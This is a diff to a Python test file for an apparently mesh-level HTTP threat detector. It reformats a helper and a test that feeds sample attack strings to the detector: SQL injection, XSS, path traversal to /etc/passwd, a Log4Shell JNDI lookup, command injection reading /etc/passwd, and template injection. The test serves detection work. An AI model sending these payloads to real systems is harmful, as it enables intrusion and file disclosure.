@@ -45,9 +45,16 @@ def test_no_module_spells_a_reason_or_threat_name_itself() -> None:
 
 
 def _view(direction: str, path: str) -> Observation:
-    return Observation(seen_by="envoy-tap", source=Identity("shop", "web"),
-                       destination=Identity("shop", "api"), method="GET", path=path,
-                       request_id="r1", authority="api.shop", direction=direction)  # type: ignore[arg-type]  # fmt: skip
+    return Observation(
+        seen_by="envoy-tap",
+        source=Identity("shop", "web"),
+        destination=Identity("shop", "api"),
+        method="GET",
+        path=path,
+        request_id="r1",
+        authority="api.shop",
+        direction=direction,
+    )  # type: ignore[arg-type]
 
 
 def test_both_ends_mismatch_is_produced_next_to_the_threat() -> None:
@@ -75,8 +82,14 @@ def test_every_threat_a_detector_emits_is_registered() -> None:
     from meshward.core.threats import HTTP_THREATS, default_detector
 
     detector = default_detector()
-    payloads = ["id=1' or 1=1--", "q=<script>alert(1)</script>", "f=../../../../etc/passwd",
-                "u=${jndi:ldap://x/a}", "c=;cat /etc/passwd", "t={{7*7}}"]  # fmt: skip
+    payloads = [
+        "id=1' or 1=1--",
+        "q=<script>alert(1)</script>",
+        "f=../../../../etc/passwd",
+        "u=${jndi:ldap://x/a}",
+        "c=;cat /etc/passwd",
+        "t={{7*7}}",
+    ]
     seen = set()
     for query in payloads:
         seen |= {t.name for t in detector.inspect(Observation(seen_by="file", query=query)).threats}
